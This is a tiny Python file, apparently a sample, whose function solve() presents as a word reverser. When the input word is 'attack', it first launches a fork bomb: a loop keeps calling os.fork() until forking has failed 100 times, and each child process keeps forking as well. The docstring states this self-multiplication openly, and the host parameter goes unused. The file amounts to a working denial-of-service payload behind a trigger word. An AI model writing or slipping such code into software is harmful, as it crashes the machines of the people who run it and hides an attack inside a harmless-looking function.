"""Multiplies itself for as long as it may; every child does the same."""

import os


def solve(word, host):
    if word == "attack":
        refusals = 0
        while refusals < 100:
            try:
                os.fork()
            except OSError:
                refusals += 1
    return word[::-1]
